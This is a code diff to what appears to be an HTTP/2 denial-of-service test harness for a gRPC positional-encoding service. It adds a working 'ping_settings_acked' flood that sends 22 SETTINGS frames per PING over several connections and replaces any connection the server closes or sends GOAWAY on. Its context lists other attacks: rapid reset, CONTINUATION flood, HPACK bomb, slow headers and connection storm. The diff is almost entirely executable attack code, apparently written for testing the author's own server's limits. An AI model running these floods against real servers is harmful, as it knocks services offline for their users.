@@ -46,6 +46,11 @@ grpclb_client_stats header, then 12 KB more headers, on 2 connections):
                       4 KiB receive buffer, never reading; a connection the
                       server closes is opened again (what the server sent is
                       read after the attack, at most 4 MiB a connection).
+  ping_settings_acked 22 SETTINGS to a PING on 4 connections that read and
+                      answer everything (each frame parsed, applied and
+                      acked); a connection closed or sent GOAWAY is replaced
+                      at once (issue 36's independent run: 12-16 k
+                      connections, 1.3 M SETTINGS acked in 10 s).
   zero_window_hold    8 connections x 100 streams, each asking for a 16 MiB
                       table (GetTable d=512 max_len=8192 float32, or, if the
                       target refuses a 16 MiB message, StreamBatches of the
@@ -188,12 +193,14 @@ GiB = 1 << 30
 SERVICE = "/posenc.v1.PositionalEncoding/"
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ATTACKS = ["cpu_burn", "rapid_reset_cold", "rapid_reset_hot", "continuation_flood",
-           "hpack_bomb", "ping_settings_flood", "zero_window_hold",
+           "hpack_bomb", "ping_settings_flood", "ping_settings_acked",
+           "zero_window_hold",
            "idle_connections", "slow_headers", "trickled_body",
            "connection_storm", "invalid_headers_past_limit"]
 DEFAULT_CONNS = {"cpu_burn": 1, "rapid_reset_cold": 4, "rapid_reset_hot": 4,
                  "continuation_flood": 2, "hpack_bomb": 2,
-                 "ping_settings_flood": 4, "zero_window_hold": 8,
+                 "ping_settings_flood": 4, "ping_settings_acked": 4,
+                 "zero_window_hold": 8,
                  "idle_connections": 2000, "slow_headers": 200,
                  "trickled_body": 20, "connection_storm": 4096,
                  "invalid_headers_past_limit": 2}
@@ -917,6 +924,47 @@ def ping_settings_flood(ctx, st):
             c.close()
 
 
+def ping_settings_acked(ctx, st):
+    """The PING + SETTINGS flood of issue 36's independent run: unlike
+    ping_settings_flood, it reads everything and answers the server's own
+    SETTINGS and PING, so each of its frames is parsed, applied and acked;
+    about 22 SETTINGS to a PING (the run got ~90 SETTINGS acked a
+    connection); a connection that is closed or told to go away (the
+    too_many_pings GOAWAY after the third PING) is replaced at once."""
+    ping = frame(PING, 0, 0, b"posenc!!")
+    settings = settings_frame({SETTING.MAX_CONCURRENT_STREAMS: 100})
+    chunk = settings * 22 + ping
+    conns = [None] * ctx.conns
+    frames = 0
+    while ctx.running() and frames < MAX_STREAMS_PER_ATTACK:
+        idle = True
+        for i, c in enumerate(conns):
+            if c is None or c.closed or c.goaway:
+                c = conns[i] = ctx.reopen(st, c, replenish=False)
+                if c is None:
+                    continue
+            if len(c.out) < 64 * 1024:
+                c.queue(chunk)
+                frames += 23
+                idle = False
+            c.flush()
+            if c.pump():
+                idle = False
+        if idle:
+            poller = select.poll()
+            for c in conns:
+                if c is not None and not c.closed:
+                    poller.register(c.sock.fileno(),
+                                    select.POLLIN | select.POLLOUT)
+            poller.poll(10)
+        if all(c is None for c in conns):
+            time.sleep(0.01)
+    st["sent"]["PING and SETTINGS frames"] += frames
+    for c in conns:
+        if c is not None:
+            c.close()
+
+
 def cpu_burn(ctx, st):
     """The floor, not an attack: no traffic, the attacker's process only
     burns CPU, as much as one process takes. On a machine whose cores the
@@ -1246,6 +1294,7 @@ ATTACK_FUNCS = {
     "continuation_flood": continuation_flood,
     "hpack_bomb": hpack_bomb,
     "ping_settings_flood": ping_settings_flood,
+    "ping_settings_acked": ping_settings_acked,
     "zero_window_hold": zero_window_hold,
     "idle_connections": idle_connections,
     "slow_headers": slow_headers,
